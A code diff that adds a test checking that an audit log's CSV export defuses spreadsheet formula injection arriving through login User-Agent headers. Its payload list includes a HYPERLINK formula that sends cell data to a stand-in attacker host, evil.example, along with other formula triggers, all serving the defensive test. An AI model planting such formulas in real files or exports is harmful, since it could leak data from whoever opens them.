@@ -63,3 +63,21 @@ def test_staff_cannot_read_the_audit_log(harness: Harness) -> None:
     harness.login("staff@example.org")
     assert harness.client.get("/api/audit").status_code == 403
     assert harness.client.get("/api/audit/export.csv").status_code == 403
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(1+1)"]
+
+
+def test_csv_export_defuses_formulas_typed_by_anyone(harness: Harness) -> None:
+    harness.create_user(AUDITOR, role="auditor")
+    harness.create_user("staff@example.org")
+    for agent in [*FORMULAS, "\t=1+1", "\r=1+1"]:
+        stranger = harness.new_client()
+        stranger.headers["User-Agent"] = agent  # an unauthenticated, failed login
+        stranger.post("/api/auth/login", json={"email": "staff@example.org", "password": "bad"})
+    harness.login(AUDITOR)
+    exported = harness.client.get("/api/audit/export.csv", params={"event": "login_failed"})
+    assert exported.status_code == 200
+    agents = {row["user_agent"] for row in csv.DictReader(io.StringIO(exported.text))}
+    assert {"'" + agent for agent in FORMULAS} <= agents
+    assert not any(agent.startswith(("=", "+", "-", "@", "\t", "\r")) for agent in agents)
